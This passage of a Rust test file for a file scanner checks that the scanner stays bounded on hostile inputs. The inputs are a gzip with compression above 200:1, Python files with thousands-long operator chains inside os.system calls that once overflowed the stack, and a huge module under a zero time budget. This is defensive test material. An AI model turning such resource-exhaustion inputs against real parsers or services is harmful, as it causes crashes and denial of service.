    let stop: Vec<Severity> = with_rule(&r, "resource-limit")
        .iter()
        .filter(|f| f.evidence.contains("compression ratio above 200:1"))
        .map(|f| f.severity)
        .collect();
    assert_eq!(stop, vec![Severity::High], "{:#?}", r.findings);
    let text = b"airlock test line\n".repeat(1 << 20);
    let path = write(dir.path(), "log.txt.gz", &gz(&text));
    let (r, _) = scan_within(&path, limits, HANG);
    assert!(
        r.worst().is_none_or(|w| w < Severity::High),
        "{:#?}",
        r.findings
    );
}

/// A process call whose argument is an operator chain thousands of operands long (`'e'*1*1…`,
/// `'e' + 'e' + …`, `'%s' % '%s' % …`, literals and names alternating) is graded in bounded
/// time: the program of the command is looked for down a bounded number of operands, each
/// evaluated once (tester t27 f1: a stack overflow that aborted the whole scan; f3: minutes
/// past the time bound).
#[test]
fn operator_chains_in_a_process_call_are_bounded() {
    let dir = tempfile::tempdir().expect("tempdir");
    let n = 6000;
    let sources = [
        (
            "mult.py",
            format!("import os\nos.system('echo x'{})\n", "*1".repeat(n)),
        ),
        (
            "plus.py",
            format!("import os\nos.system({})\n", vec!["'e'"; n].join("+")),
        ),
        (
            "mod.py",
            format!("import os\nos.system('%s'{})\n", " % '%s'".repeat(n)),
        ),
        (
            "mixed.py",
            format!(
                "import os\nx = 'a'\nos.system({})\n",
                ["'e'", "x"].repeat(n / 2).join("+")
            ),
        ),
        (
            "run.py",
            format!(
                "import subprocess\nsubprocess.run({}, shell=True)\n",
                vec!["'e'"; n].join("+")
            ),
        ),
    ];
    for (name, src) in sources {
        let p = write(dir.path(), name, src.as_bytes());
        let (r, took) = scan_within(&p, BudgetLimits::default(), HANG);
        // Each runs a shell command at import: the chain does not hide it.
        assert!(
            r.findings.iter().any(|f| f.severity >= Severity::High),
            "{name}: {:?} in {took:?}",
            ids(&r)
        );
        assert!(took < Duration::from_secs(20), "{name}: {took:?}");
    }
}

/// The Python walk stops at the input's time bound and says so, with what it saw reported:
/// a module whose call at import is found before the bound stays high.
#[test]
fn the_python_walk_stops_at_the_time_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut src = String::from("import os\nos.system('echo hi')\n");
    for i in 0..20_000 {
        src.push_str(&format!("v{i} = [{i}, {i} + 1, ({i}, 'x')]\n"));
    }
    let p = write(dir.path(), "big.py", src.as_bytes());
    let limits = BudgetLimits {
        max_time: Duration::ZERO,
        ..BudgetLimits::default()
    };
    let (r, took) = scan_within(&p, limits, HANG);
    let stops = with_rule(&r, "resource-limit");
    assert!(
        stops.iter().any(|f| f.message.contains("time per input")
            && format!("{} {}", f.message, f.evidence).contains("syntax tree")
            && f.severity >= Severity::High),
        "{:?} in {took:?}",
        stops.iter().map(|f| &f.message).collect::<Vec<_>>()
    );
}
